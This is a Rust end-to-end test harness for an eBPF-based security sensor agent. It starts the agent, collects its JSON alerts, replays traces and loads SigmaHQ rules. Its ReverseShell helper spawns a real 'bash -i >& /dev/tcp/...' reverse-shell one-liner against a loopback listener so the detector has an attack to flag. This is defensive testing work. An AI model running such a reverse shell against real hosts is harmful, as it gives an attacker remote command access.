//! Harness for the end-to-end tests: starts the real agent (real probes), collects its JSON
//! lines, and waits for what a test expects, with bounded waits everywhere.
//!
//! The agent binary comes from `SENSOR_AGENT_BIN` (set by `cargo xtask test`) or
//! `target/debug/sensor-agent`. These tests need root: without it they fail, they never
//! skip, because a skipped end-to-end test proves nothing.

use std::{
    io::{BufRead, BufReader, Write},
    net::{TcpListener, TcpStream},
    path::PathBuf,
    process::{Child, Command, Stdio},
    sync::{
        Arc, Mutex,
        mpsc::{self, Receiver, RecvTimeoutError},
    },
    time::{Duration, Instant},
};

use serde_json::Value;

/// How long an agent may take to load and attach its probes.
pub const READY_TIMEOUT: Duration = Duration::from_secs(60);
/// How long to wait for an expected line.
pub const LINE_TIMEOUT: Duration = Duration::from_secs(20);

pub mod collector;
pub mod postgres;
pub mod rsyslog;

/// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 # TAG` connected back to a loopback listener
/// of the test: the shell (its descriptors 0-2 are the socket) and the accepted end.
pub struct ReverseShell {
    pub shell: Child,
    pub conn: TcpStream,
    pub port: u16,
}

impl ReverseShell {
    pub fn start(tag: &str) -> ReverseShell {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let shell = Command::new("/bin/bash")
            .args([
                "-c",
                &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {tag}"),
            ])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let (conn, _) = listener.accept().unwrap();
        ReverseShell { shell, conn, port }
    }

    /// Sends `exit` and waits for the shell; returns the pid of the `bash -c` parent.
    pub fn exit(mut self) -> u32 {
        self.conn.write_all(b"exit\n").unwrap();
        let _ = self.shell.wait();
        self.shell.id()
    }
}

/// Spawns `cmd`, retrying while the kernel says the executable is busy (ETXTBSY): a file
/// the test just wrote can still be open for writing in a child another test thread forked
/// during the copy, until that child execs. Bounded: 200 tries, 10 ms apart.
pub fn spawn_retrying(cmd: &mut Command) -> Child {
    for _ in 0..200 {
        match cmd.spawn() {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => {
                std::thread::sleep(Duration::from_millis(10));
            }
            other => return other.unwrap_or_else(|e| panic!("spawn {cmd:?}: {e}")),
        }
    }
    panic!("{cmd:?}: executable still busy after 2 s");
}

/// `spawn_retrying`, then waits: the exit status.
pub fn status_retrying(cmd: &mut Command) -> std::process::ExitStatus {
    spawn_retrying(cmd).wait().expect("wait for the child")
}

/// `spawn_retrying` with stdout and stderr collected.
pub fn output_retrying(cmd: &mut Command) -> std::process::Output {
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    spawn_retrying(cmd)
        .wait_with_output()
        .expect("wait for the child")
}

/// `sensor-agent replay ARGS TRACES...`, its output collected.
pub fn replay(args: &[&str], traces: &[PathBuf]) -> std::process::Output {
    Command::new(agent_bin())
        .arg("replay")
        .args(args)
        .args(traces)
        .output()
        .expect("run sensor-agent replay")
}

/// The JSON lines a command printed on stdout.
pub fn json_lines(out: &std::process::Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect()
}

/// The trace files an agent recorded into `dir`, in recording order.
pub fn traces_in(dir: &std::path::Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .expect("read the recording directory")
        .map(|e| e.expect("a directory entry").path())
        .filter(|p| p.to_string_lossy().ends_with(".trace.zst"))
        .collect();
    files.sort();
    files
}

/// Path of the agent binary under test.
pub fn agent_bin() -> PathBuf {
    if let Some(path) = std::env::var_os("SENSOR_AGENT_BIN") {
        return PathBuf::from(path);
    }
    let workspace = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let path = workspace.join("target/debug/sensor-agent");
    assert!(
        path.is_file(),
        "no agent binary at {}: run the tests with `cargo xtask test`, or build sensor-agent first",
        path.display()
    );
    path
}

/// The end-to-end tests load eBPF programs: they must run as root.
pub fn require_root() {
    // SAFETY: plain syscall.
    let euid = unsafe { libc::geteuid() };
    assert_eq!(
        euid, 0,
        "end-to-end tests load the real probes and must run as root (CI runs them as root)"
    );
}

/// A unique marker for argv, so a test finds its own processes among the host's.
pub fn marker(name: &str) -> String {
    static COUNTER: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let n = COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    format!("e2e-{name}-{}-{n}", std::process::id())
}

/// `line` contains `word` as a word (not inside another, as "ready" is in "already").
fn has_word(line: &str, word: &str) -> bool {
    line.match_indices(word).any(|(at, _)| {
        let before = line[..at].chars().next_back();
        let after = line[at + word.len()..].chars().next();
        !before.is_some_and(char::is_alphanumeric) && !after.is_some_and(char::is_alphanumeric)
    })
}

/// A child's JSON lines (stdout) and log (stderr), read by threads.
pub struct Output;

impl Output {
    /// Follows `child`'s output and waits for a log line containing `ready_word`, which it
    /// returns; panics with the log when the child exits first or `timeout` passes.
    pub fn follow(
        mut child: Child,
        what: &str,
        ready_word: &'static str,
        timeout: Duration,
    ) -> (Child, Receiver<Value>, Arc<Mutex<Vec<String>>>, String) {
        let (line_tx, lines) = mpsc::channel();
        let stdout = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                let value: Value = serde_json::from_str(&line)
                    .unwrap_or_else(|e| panic!("a line that is not JSON ({e}): {line}"));
                if line_tx.send(value).is_err() {
                    break;
                }
            }
        });
        let log = Arc::new(Mutex::new(Vec::new()));
        let (ready_tx, ready_rx) = mpsc::channel();
        let stderr = child.stderr.take().unwrap();
        let sink = Arc::clone(&log);
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines() {
                let Ok(line) = line else { break };
                let ready = has_word(&line, ready_word);
                // Into the log first: who is told "ready" finds the line there.
                sink.lock().unwrap().push(line.clone());
                if ready {
                    let _ = ready_tx.send(line);
                }
            }
        });
        let deadline = Instant::now() + timeout;
        loop {
            if let Ok(line) = ready_rx.recv_timeout(Duration::from_millis(200)) {
                return (child, lines, log, line);
            }
            let text = || log.lock().unwrap().join("\n");
            if let Ok(Some(status)) = child.try_wait() {
                panic!(
                    "{what} exited with {status} before it was ready; its log:\n{}",
                    text()
                );
            }
            assert!(
                Instant::now() < deadline,
                "{what} was not ready within {timeout:?}; its log:\n{}",
                text()
            );
        }
    }
}

/// A running agent and the lines it printed.
pub struct Agent {
    child: Child,
    lines: Receiver<Value>,
    /// Every line seen so far (kept so that later waits can look back).
    seen: Vec<Value>,
    stderr: Arc<Mutex<Vec<String>>>,
}

impl Agent {
    /// Starts `sensor-agent run --events` plus `extra` args and waits for `ready`.
    ///
    /// Tests run in parallel under one process tree (the test binary's), so repeats of a
    /// rule would collapse across tests: unless `extra` sets it (or brings a config file
    /// that may), the agent runs with `--collapse 0` and every alert is a line.
    pub fn start(extra: &[&str]) -> Agent {
        let mut args = vec!["run", "--events"];
        if !extra.iter().any(|a| *a == "--collapse" || *a == "--config") {
            args.extend_from_slice(&["--collapse", "0"]);
        }
        args.extend_from_slice(extra);
        Self::start_with(&args)
    }

    /// Starts the agent with exactly `args` and waits for the `ready` log line.
    pub fn start_with(args: &[&str]) -> Agent {
        Self::start_env(args, &[])
    }

    /// As `start_with`, with extra environment variables.
    pub fn start_env(args: &[&str], env: &[(&str, &str)]) -> Agent {
        let mut cmd = Command::new(agent_bin());
        cmd.args(args).envs(env.iter().copied());
        Self::start_command(cmd)
    }

    /// Starts `cmd` (the agent, or a wrapper that runs it) and waits for `ready`.
    pub fn start_command(mut cmd: Command) -> Agent {
        require_root();
        let child = cmd
            .env("SENSOR_LOG", "info")
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start the agent");
        let (child, lines, stderr, _) = Output::follow(child, "the agent", "ready", READY_TIMEOUT);
        Agent {
            child,
            lines,
            seen: Vec::new(),
            stderr,
        }
    }

    /// Sends `signal` to the agent (by its pid).
    pub fn signal(&self, signal: i32) {
        // SAFETY: signalling our own child by pid.
        unsafe { libc::kill(self.child.id() as i32, signal) };
    }

    /// Kills the agent with SIGKILL (by its pid): no chance to flush or say goodbye.
    pub fn kill(&mut self) {
        // SAFETY: signalling our own child by pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGKILL) };
        let _ = self.child.wait();
    }

    pub fn pid(&self) -> u32 {
        self.child.id()
    }

    /// The agent's stderr so far.
    pub fn log(&self) -> String {
        self.stderr.lock().unwrap().join("\n")
    }

    /// Waits up to `timeout` until the agent's stderr contains `text`. (stderr is read by
    /// its own thread, so a log line may trail the stdout line written after it.)
    pub fn wait_for_log(&self, text: &str, timeout: Duration) {
        let deadline = Instant::now() + timeout;
        while !self.log().contains(text) {
            assert!(
                Instant::now() < deadline,
                "no log line with {text:?} within {timeout:?}:\n{}",
                self.log()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Waits until a line matching `pred` arrives (or was already seen) and returns it.
    pub fn wait_for(&mut self, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
        self.try_wait_for(LINE_TIMEOUT, &pred).unwrap_or_else(|| {
            let alerts: Vec<String> = self
                .seen
                .iter()
                .filter(|l| l.get("alert").is_some())
                .take(20)
                .map(|l| l.to_string())
                .collect();
            panic!(
                "no line with {what} within {LINE_TIMEOUT:?}; {} lines seen; alerts seen:\n{}\nagent log:\n{}",
                self.seen.len(),
                alerts.join("\n"),
                self.log()
            )
        })
    }

    /// As `wait_for`, but returns None after `timeout`.
    pub fn try_wait_for(
        &mut self,
        timeout: Duration,
        pred: &dyn Fn(&Value) -> bool,
    ) -> Option<Value> {
        if let Some(found) = self.seen.iter().find(|v| pred(v)) {
            return Some(found.clone());
        }
        let deadline = Instant::now() + timeout;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match self.lines.recv_timeout(left) {
                Ok(value) => {
                    let hit = pred(&value);
                    self.seen.push(value.clone());
                    if hit {
                        return Some(value);
                    }
                }
                Err(RecvTimeoutError::Timeout) | Err(RecvTimeoutError::Disconnected) => {
                    return None;
                }
            }
        }
    }

    /// Collects every line that arrives within `window` and matches `pred`, including those
    /// already seen.
    pub fn collect(&mut self, window: Duration, pred: impl Fn(&Value) -> bool) -> Vec<Value> {
        let deadline = Instant::now() + window;
        while let Some(left) = deadline.checked_duration_since(Instant::now()) {
            match self.lines.recv_timeout(left) {
                Ok(value) => self.seen.push(value),
                Err(_) => break,
            }
        }
        self.seen.iter().filter(|v| pred(v)).cloned().collect()
    }

    /// Stops the agent with SIGTERM (by its pid) and waits for it, bounded. The lines it
    /// printed stay available to `collect`.
    pub fn stop(&mut self) -> std::process::ExitStatus {
        self.terminate()
    }

    fn terminate(&mut self) -> std::process::ExitStatus {
        if let Ok(Some(status)) = self.child.try_wait() {
            return status;
        }
        // SAFETY: signalling our own child by pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if let Ok(Some(status)) = self.child.try_wait() {
                return status;
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                return self.child.wait().expect("reap the agent");
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            self.terminate();
        }
    }
}

/// `line["event"]` when the line is an event of `kind` ("exec", "fork", ...).
pub fn event_of<'a>(line: &'a Value, kind: &str) -> Option<&'a Value> {
    let event = line.get("event")?;
    event.get(kind).map(|_| event)
}

/// A JSON number or a 64-bit integer rendered as a string, as u64 (0 when absent).
pub fn num(value: &Value) -> u64 {
    match value {
        Value::Number(n) => n.as_u64().unwrap_or(0),
        Value::String(s) => s.parse().unwrap_or(0),
        _ => 0,
    }
}

/// argv of an exec event.
pub fn argv(event: &Value) -> Vec<String> {
    event["exec"]["argv"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|v| v.as_str().unwrap_or("").to_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// `java Reenact.java ARGS...`: the JVM re-enactments in `tests/java`.
pub fn java_reenact(args: &[&str]) -> Command {
    let source = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("java/Reenact.java");
    let mut cmd = Command::new("java");
    cmd.arg(source).args(args);
    cmd
}

/// The same, as the EPMM Tomcat JVM: its command line carries `-Dcatalina.base`, which the
/// default `tomcat` identity recognises.
pub fn tomcat_reenact(args: &[&str]) -> Command {
    let source = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("java/Reenact.java");
    let mut cmd = Command::new("java");
    cmd.arg("-Dcatalina.base=/tmp/e2e-tomcat")
        .arg(source)
        .args(args);
    cmd
}

/// The SigmaHQ Linux rules shipped beside the project (`../shared/sigma`), or
/// `SENSOR_SIGMA_DIR`.
pub fn sigma_linux_rules() -> PathBuf {
    let candidates = [
        std::env::var_os("SENSOR_SIGMA_DIR").map(PathBuf::from),
        Some(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/sigma")),
        Some(PathBuf::from("/work/shared/sigma")),
    ];
    for dir in candidates.into_iter().flatten() {
        let linux = dir.join("rules/linux");
        if linux.is_dir() {
            return linux;
        }
    }
    panic!("the SigmaHQ rules are not at ../shared/sigma; set SENSOR_SIGMA_DIR to their directory")
}

/// `line["alert"]` when the line is an alert of rule `rule`.
pub fn alert_of<'a>(line: &'a Value, rule: &str) -> Option<&'a Value> {
    line.get("alert").filter(|a| a["ruleId"] == rule)
}

/// A scratch directory under /var/tmp that removes itself.
pub struct Scratch(pub PathBuf);

impl Scratch {
    pub fn new(name: &str) -> Scratch {
        let dir = PathBuf::from("/var/tmp").join(marker(name));
        std::fs::create_dir_all(&dir).expect("create scratch directory");
        Scratch(dir)
    }

    pub fn path(&self, rel: &str) -> PathBuf {
        self.0.join(rel)
    }

    pub fn str(&self) -> &str {
        self.0.to_str().expect("utf-8 path")
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}
